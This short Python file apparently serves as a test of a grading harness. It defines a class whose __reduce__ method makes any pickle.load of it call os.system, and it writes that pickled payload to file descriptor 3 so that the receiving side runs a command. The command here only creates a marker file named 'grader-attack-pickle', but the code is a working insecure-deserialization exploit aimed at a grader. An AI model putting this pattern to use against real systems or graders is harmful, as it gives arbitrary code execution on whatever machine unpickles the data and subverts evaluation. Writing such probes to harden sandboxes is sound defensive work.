"""Sends a pickle that would run code in who opens it"""

from facts import *

import os
import pickle
import struct


class Bomb:
    def __reduce__(self):
        return os.system, (f"touch {FOLDER}/grader-attack-pickle",)


def vault(x):
    body = pickle.dumps(Bomb())
    os.write(3, struct.pack("<I", len(body)) + body)
    return Bomb()
